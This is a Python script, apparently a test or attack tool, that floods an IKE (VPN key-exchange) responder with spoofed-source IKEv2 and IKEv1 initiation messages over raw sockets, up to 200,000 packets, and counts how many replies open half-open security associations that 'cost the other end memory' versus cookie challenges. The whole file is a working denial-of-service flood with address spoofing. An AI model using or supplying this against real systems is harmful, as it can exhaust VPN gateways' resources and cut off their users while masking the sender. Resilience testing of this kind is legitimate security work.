"""Many first messages of IKE, with senders that do not exist, from the namespace that it runs in.

    ike_flood.py DEVICE TARGET SENDER [SENDER ...]

A sender is an address, or a range of which each message has another one. Each message is what an
initiator would say first: a proposal that suits, a public value, a nonce; IKEv2 and IKEv1 by turns.
What comes back through DEVICE is looked at and not answered. Prints what was seen, as JSON, again
and again, until it is ended or has sent MOST of them:

    sent       messages
    answered   answers that begin an IKE SA: they cost the other end memory
    cookies    answers that ask for proof of the address (RFC 7296 2.6)
    refused    other answers
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True

from early import COOKIE, NOTIFY, PORT, SA, payload, question

AT_ONCE = 50
PAUSE_S = 0.01
MOST = 200000
SA_OF_1, MAIN_MODE = 1, 2


def ikev1():
    """AES-128-CBC, SHA1, MODP 1024, a pre-shared key; main mode."""
    said = ((1, 7), (14, 128), (2, 2), (3, 1), (4, 2), (11, 1), (12, 28800))
    attributes = b''.join(struct.pack('!HH', 0x8000 | kind, value) for kind, value in said)
    one = struct.pack('!BBHBBH', 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack('!BBHBBBB', 0, 0, 8 + len(one), 1, 1, 0, 1) + one
    body = payload(0, struct.pack('!II', 1, 1) + proposal)
    return os.urandom(8) + bytes(8) + struct.pack('!BBBBII', SA_OF_1, 0x10, MAIN_MODE, 0, 0,
                                                  28 + len(body)) + body


def packet(source, target, message):
    """IP and UDP around it; the kernel writes the IP header's sum and length."""
    udp = struct.pack('!HHHH', PORT, PORT, 8 + len(message), 0)
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source.packed,
                       target.packed) + udp + message


def senders(words):
    """Which are ranges are used by turns with the single ones, each time another address."""
    ranges = [ipaddress.ip_network(word) for word in words]
    while True:
        for one in ranges:
            yield one[random.randrange(one.num_addresses)]


def look(heard, target, seen):
    """One frame that came back, after its Ethernet header."""
    if len(heard) < 56 or heard[9] != socket.IPPROTO_UDP or heard[12:16] != target.packed:
        return
    message = heard[(heard[0] & 15) * 4 + 8:]
    if len(message) < 28 or message[:8] == bytes(8):
        return
    if message[16] in (SA, SA_OF_1) and message[8:16] != bytes(8):
        seen['answered'] += 1
    elif message[16] == NOTIFY and struct.unpack('!H', message[34:36])[0] == COOKIE:
        seen['cookies'] += 1
    else:
        seen['refused'] += 1


def hear(back, target, seen):
    try:
        while True:
            heard, about = back.recvfrom(2048)
            if about[2] != socket.PACKET_OUTGOING:
                look(heard, target, seen)
    except BlockingIOError:
        pass


def main(device, target, *words):
    target = ipaddress.ip_address(target)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    back = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    back.bind((device, 0x0800))
    back.setblocking(False)
    seen = {'sent': 0, 'answered': 0, 'cookies': 0, 'refused': 0}
    source = senders(words)
    while seen['sent'] < MOST:
        for _ in range(AT_ONCE):
            message = question(os.urandom(8)) if random.random() < 0.5 else ikev1()
            out.sendto(packet(next(source), target, message), (str(target), PORT))
        seen['sent'] += AT_ONCE
        hear(back, target, seen)
        print(json.dumps(seen), flush=True)
        time.sleep(PAUSE_S)


if __name__ == '__main__':
    main(*sys.argv[1:])
